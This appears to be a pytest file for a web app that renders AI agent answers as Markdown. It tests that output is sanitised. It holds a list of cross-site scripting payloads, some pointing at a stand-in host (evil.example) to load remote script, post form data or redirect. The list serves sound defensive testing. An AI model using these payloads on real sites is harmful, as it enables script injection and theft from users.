"""Markdown rendering of agent answers: what survives, and that no markup a
model (or whoever wrote what it read) slips in can run in the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from crewboard.web import render
from crewboard.web.render import CHILD_RENDER_CHARS, render_markdown


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.elements


SAFE_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=p></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- <script>alert(1)</script> -->",
]


@pytest.mark.parametrize("payload", XSS)
def test_no_payload_yields_active_markup(payload):
    html = render_markdown(payload)
    for tag, attrs in elements(html):
        assert tag in SAFE_TAGS, (tag, html)
        assert not [a for a in attrs if a.startswith("on") or a == "src"], (attrs, html)
        for name in ("href", "style"):
            value = attrs.get(name, "").strip().lower()
            assert "javascript:" not in value and "vbscript:" not in value, html
            assert not value.startswith("data:"), html
        if tag == "a" and "href" in attrs:
            assert attrs["rel"] == "noopener nofollow"


def test_raw_html_is_shown_as_text():
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_markdown_renders():
    html = render_markdown(
        "# Title\n\n**bold** *em* ~~gone~~ `code`\n\n- one\n- two\n\n"
        "```python\nprint('x')\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code>" in html
    assert "<ul>\n<li>one</li>" in html
    assert "<pre><code class=\"language-python\">print('x')\n</code></pre>" in html
    assert '<th style="text-align:left">a</th>' in html
    assert '<td style="text-align:right">2</td>' in html


def test_links_are_kept_with_a_safe_rel():
    html = render_markdown(
        '[docs](https://example.com/a?b=1&c=2 "Docs") and <mailto:x@example.com>'
    )
    assert (
        '<a href="https://example.com/a?b=1&amp;c=2" title="Docs" rel="noopener nofollow">docs</a>'
        in html
    )
    assert '<a href="mailto:x@example.com" rel="noopener nofollow">' in html


def test_images_become_links_the_browser_does_not_fetch():
    html = render_markdown("![a chart](https://tracker.example/c.png?user=1)")
    assert elements(html) == [
        ("p", {}),
        ("a", {"href": "https://tracker.example/c.png?user=1", "rel": "noopener nofollow"}),
    ]
    assert ">a chart</a>" in html


@pytest.mark.parametrize("text", ["", None, 5])
def test_nothing_renders_to_nothing(text):
    assert render_markdown(text) == ""  # type: ignore[arg-type]


LARGE = "A *long* answer with <script>alert(1)</script> and [a link](javascript:x) ü.\n\n" * (
    CHILD_RENDER_CHARS // 60
)


def test_a_large_text_renders_in_a_child_process_exactly_as_in_this_one(monkeypatch):
    children: list[list[str]] = []
    real_run = render.subprocess.run

    def run(argv, **kwargs):
        children.append(argv)
        return real_run(argv, **kwargs)

    monkeypatch.setattr(render.subprocess, "run", run)
    assert len(LARGE) > CHILD_RENDER_CHARS
    html = render_markdown(LARGE)
    assert len(children) == 1
    assert html == render._render(LARGE)
    assert "<script>" not in html and 'href="javascript' not in html and "<em>long</em>" in html


def test_a_large_text_still_renders_when_no_child_can_start(monkeypatch, caplog):
    monkeypatch.setattr(render.sys, "executable", "/nonexistent/python")
    assert render_markdown(LARGE) == render._render(LARGE)
    assert "in a child process failed" in caplog.text
